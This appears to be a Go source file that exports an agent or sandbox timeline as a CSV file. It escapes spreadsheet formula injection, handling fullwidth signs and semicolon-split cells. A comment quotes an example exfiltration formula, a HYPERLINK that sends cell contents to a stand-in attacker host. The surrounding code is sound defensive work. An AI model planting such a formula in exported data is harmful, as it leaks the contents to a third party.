package console

import (
	"bytes"
	"encoding/csv"
	"net/http"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"time"

	"postern/internal/auth"
	"postern/internal/mail"
)

func (s agentHandlers) saveAgentDay(w http.ResponseWriter, r *http.Request, who auth.Principal) error {
	return s.saveDay(w, r, who, true)
}

func (s agentHandlers) saveSandboxDay(w http.ResponseWriter, r *http.Request, who auth.Principal) error {
	return s.saveDay(w, r, who, false)
}

// saveDay answers with the events of a timeline that the filter selects, the oldest first, as
// comma-separated values (RFC 4180). The file covers all pages, and has nothing that they do
// not show.
func (s agentHandlers) saveDay(w http.ResponseWriter, r *http.Request, who auth.Principal, inbox bool) error {
	v, events, err := s.timeline(r, who, inbox)
	if err != nil {
		return err
	}
	events = v.Filter.pick(events)
	about := []string{v.Subject.Principal()}
	for i := range events {
		for _, p := range events[i].Parts {
			if p.Who != "" {
				about = append(about, p.Who)
			}
		}
	}
	known, err := s.look(r.Context(), who.Project, about)
	if err != nil {
		return err
	}
	var b bytes.Buffer
	out := csv.NewWriter(&b)
	rows := [][]string{{"time", "kind", "event", "outcome", "took", "sandbox", "entry", "details"}}
	for i := len(events) - 1; i >= 0; i-- {
		rows = append(rows, events[i].row(known))
	}
	if v.Gone != "" {
		rows = append(rows, []string{"", "note", v.Gone, "", "", "", "", ""})
	}
	if v.Capped {
		rows = append(rows, []string{"", "note", "This day has more events than are listed. The record has all.", "", "", "", "", ""})
	}
	for _, row := range rows {
		for i := range row {
			row[i] = cell(row[i])
		}
		_ = out.Write(row) // cannot fail: it writes to memory, with a comma
	}
	out.Flush()
	return download(w, known.of(v.Subject.Principal()).Text+" "+v.Filter.Day.Format(time.DateOnly)+".csv", b.Bytes())
}

// row returns the event as a line of a file.
func (e *dayEvent) row(known names) []string {
	var said strings.Builder
	for _, p := range e.Parts {
		switch {
		case p.Who != "":
			n := known.of(p.Who)
			said.WriteString(strings.TrimSpace(n.Kind + " " + n.Text))
		default:
			said.WriteString(p.Text)
		}
	}
	var details []string
	for _, f := range e.Fields {
		details = append(details, f.Name+": "+f.Value)
	}
	entry := ""
	if e.Seq > 0 {
		entry = strconv.FormatInt(e.Seq, 10)
	}
	return []string{e.At.UTC().Format("2006-01-02T15:04:05.000Z"), e.Topic, said.String(), e.Tag, e.Took, e.Box, entry, strings.Join(details, "; ")}
}

// maxCell bounds a cell, in bytes. Spreadsheets cut longer ones, each in its own way.
const maxCell = 32_000

// cell returns hostile text in a form that is safe in a spreadsheet. The attack: a program is
// called =HYPERLINK("https://attacker.example/?"&A1), so that the spreadsheet of a person who
// opens the file sends the rest of it there; some spreadsheets start programs in this way.
// Text that a spreadsheet takes for a formula gets an apostrophe before it. Spreadsheets skip
// spaces before they look, and accept the wide forms of the signs, so these count too. Where a
// comma is the decimal sign, spreadsheets divide at semicolons, even within quotation marks,
// so the text after a semicolon counts as a beginning. Line breaks and invisible characters
// are made visible, so that no cell makes a row of its own. Files are also divided at tabs, so
// a tab becomes a space.
func cell(s string) string {
	return formula().ReplaceAllString(strings.ReplaceAll(mail.Printable(s, maxCell), "\t", " "), "$1'$2")
}

var formula = sync.OnceValue(func() *regexp.Regexp {
	return regexp.MustCompile(`((?:^|;)[\s"'\x{a0}\x{3000}]*)([=+\-@|%\x{ff1d}\x{ff0b}\x{ff0d}\x{ff20}])`)
})
